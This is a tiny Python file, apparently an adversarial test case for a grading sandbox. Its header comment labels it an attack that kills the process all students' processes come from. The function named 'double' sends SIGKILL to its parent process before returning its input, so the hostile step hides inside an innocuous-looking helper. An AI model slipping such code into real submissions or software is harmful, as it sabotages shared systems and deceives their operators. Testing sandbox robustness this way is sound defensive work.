# {"attack": "Kills the process from which all students' processes are made.", "breach": "harm", "spoils": true, "quick": true}

import os
import signal


def double(x):
    os.kill(os.getppid(), signal.SIGKILL)
    return x
